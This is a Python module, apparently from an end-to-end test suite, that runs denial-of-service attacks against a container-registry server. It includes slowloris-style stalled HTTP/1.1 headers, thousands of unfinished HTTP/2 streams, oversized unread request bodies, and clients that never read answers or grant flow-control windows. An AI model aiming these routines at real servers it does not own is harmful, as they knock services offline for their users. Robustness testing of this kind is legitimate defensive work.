"""Requests that begin and do not end, and bodies and answers that stall."""

from __future__ import annotations

import hashlib
import os
import socket

from moorage_e2e.attacks import http2
from moorage_e2e.attacks.target import Closeable, Target, basic, head, hold

LARGE = 64 << 20
STREAMS = 128


def _open(target: Target, count: int) -> list[socket.socket]:
    """So many connections, or as many as are taken."""
    sockets = []
    for _ in range(count):
        try:
            sockets.append(target.connect())
        except OSError:
            break
    return sockets


def _send(connection: socket.socket, data: bytes) -> bool:
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


def unfinished_posts(target: Target) -> str:
    """POSTs without an end over many connections of HTTP/2, without a password."""
    connections = []
    for _ in range(target.count(140)):
        try:
            connection = http2.Http2(target)
        except OSError:
            break
        starts = b"".join(
            http2.request(stream, "POST", "/v2/attack/blobs/uploads/") for stream in range(1, 2 * STREAMS, 2)
        )
        connection.send(starts)
        connections.append(connection)
    while target.goes_on():
        for connection in connections:
            connection.look()
        target.rest(0.5)
    hold(target, connections)
    return f"{len(connections)} connections, {len(connections) * STREAMS} requests"


def stalled_requests(target: Target) -> str:
    """Heads that are not complete and bodies that do not come, over HTTP/1.1."""
    sockets, sent = _open(target, target.count(17_500)), 0
    whole = head("PUT", "/v2/attack/manifests/a", {"Content-Length": "100", "Content-Type": "application/json"})
    for number, connection in enumerate(sockets):
        sent += _send(connection, whole[: -2 if number % 3 == 0 else len(whole)])
    hold(target, sockets)
    return f"{sent} requests"


def unread_bodies(target: Target) -> str:
    """Large bodies of requests that are not let in, over HTTP/1.1 and over HTTP/2."""
    piece, total = os.urandom(1 << 18), 0
    plain = _open(target, target.count(30))
    for connection in plain:
        _send(connection, head("POST", "/v2/attack/blobs/uploads/", {"Content-Length": str(1 << 30)}))
        connection.setblocking(False)
    framed = [http2.Http2(target) for _ in range(target.count(30))]
    for multiplexed in framed:
        for stream in range(1, 2 * STREAMS, 2):
            multiplexed.open(stream, "POST", "/v2/attack/blobs/uploads/")
    while target.goes_on():
        for connection in plain:
            try:
                total += connection.send(piece)
            except OSError:
                pass
        for multiplexed in framed:
            multiplexed.look()
            for stream in list(multiplexed.windows):
                if multiplexed.data(stream, [piece[: http2.FRAME_SIZE]] * 8):
                    total += 8 * http2.FRAME_SIZE
        target.rest(0.01)
    hold(target, [*plain, *framed])
    return f"{total >> 20} MiB sent"


def _blob(target: Target) -> str:
    """A large blob that the user has pushed."""
    content = hashlib.sha256(b"seed").digest() * (LARGE // 32)
    digest = "sha256:" + hashlib.sha256(content).hexdigest()
    connection = target.connect()
    connection.settimeout(60)
    length = {"Content-Length": str(LARGE), "Content-Type": "application/octet-stream"}
    connection.sendall(head("POST", f"/v2/users/image/blobs/uploads/?digest={digest}", basic() | length) + content)
    if b" 201 " not in connection.recv(64):
        raise OSError("the large blob was not taken")
    connection.close()
    return f"/v2/users/image/blobs/{digest}"


def unread_answers(target: Target) -> str:
    """Clients with a password that do not read: sockets that fill up, pipelined requests, windows that are never granted."""
    path = _blob(target)
    sockets: list[Closeable] = []
    for _ in range(target.count(100)):
        connection = target.connect(receive_buffer=4096)
        _send(connection, head("GET", path, basic()) * 4)
        sockets.append(connection)
    endless = (4).to_bytes(2, "big") + (2**31 - 1).to_bytes(4, "big")
    for number in range(target.count(100)):
        multiplexed = http2.Http2(target, b"" if number % 2 else endless)
        if not number % 2:
            multiplexed.send(http2.frame(http2.WINDOW_UPDATE, payload=(2**30).to_bytes(4, "big")))
        for stream in range(1, 17, 2):
            multiplexed.open(stream, "GET", path, basic(), end=True)
        sockets.append(multiplexed)
    hold(target, sockets)
    return f"{len(sockets)} connections"
